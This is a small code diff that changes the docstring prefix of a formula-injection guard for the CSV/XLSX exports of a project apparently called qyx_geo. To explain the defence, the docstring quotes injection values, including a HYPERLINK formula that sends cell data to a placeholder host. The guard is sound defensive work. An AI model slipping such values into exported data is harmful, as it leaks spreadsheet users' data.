@@ -1,4 +1,4 @@
-"""Formula-injection guard for every CSV and XLSX table qyx_geo writes.
+r"""Formula-injection guard for every CSV and XLSX table qyx_geo writes.
 
 A register name or id such as ``=HYPERLINK("http://x/?"&A1)`` or ``@SUM(A1)`` is inert text in
 qyx_geo, but a spreadsheet opening the exported CSV/XLSX runs it as a formula (CWE-1236). Every
